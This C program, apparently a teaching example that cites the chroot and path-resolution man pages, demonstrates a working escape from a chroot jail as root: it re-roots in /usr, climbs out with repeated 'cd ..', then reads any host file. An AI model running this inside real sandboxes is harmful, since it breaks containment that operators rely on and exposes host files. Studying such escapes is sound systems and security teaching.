// SPDX-License-Identifier: MIT
/*
 * escape FILE - as root in a chroot, print FILE of the host
 *
 * Read: chroot(2), path_resolution(7)
 */
#define _GNU_SOURCE
#include <err.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

#include "error.h"

int main(int argc, char *argv[])
{
	FILE *file;
	int c;

	if (argc != 2)
		errx(EXIT_FAILURE, "Usage: escape FILE");
	/* The working directory stays where it is, above the new root: it is
	 * the way out. */
	must(chdir("/"), "cd /");
	must(chroot("/usr"), "chroot /usr");
	/* More often than any path has parts: at the top, ".." is no error. */
	for (int i = 0; i < 4096; i++)
		must(chdir(".."), "cd ..");
	must(chroot("."), "chroot .");
	file = fopen(argv[1], "r");
	if (file == NULL)
		err(EXIT_FAILURE, "%s", argv[1]);
	while ((c = fgetc(file)) != EOF)
		putchar(c);
	return EXIT_SUCCESS;
}
